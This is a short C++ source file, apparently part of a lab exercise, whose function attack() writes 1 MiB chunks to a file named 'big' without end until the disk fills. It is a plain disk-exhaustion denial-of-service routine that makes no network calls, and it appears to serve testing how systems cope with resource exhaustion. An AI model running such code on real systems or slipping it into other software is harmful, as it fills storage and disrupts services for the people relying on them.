// Writes one file without end.
#include "rest_of_the_lab.hpp"

#include <fcntl.h>

bool attack() {
  static char chunk[1u << 20] = {1};
  const int file = ::open("big", O_CREAT | O_WRONLY, 0600);
  while (::write(file, chunk, sizeof chunk) > 0) {
  }
  return false;
}
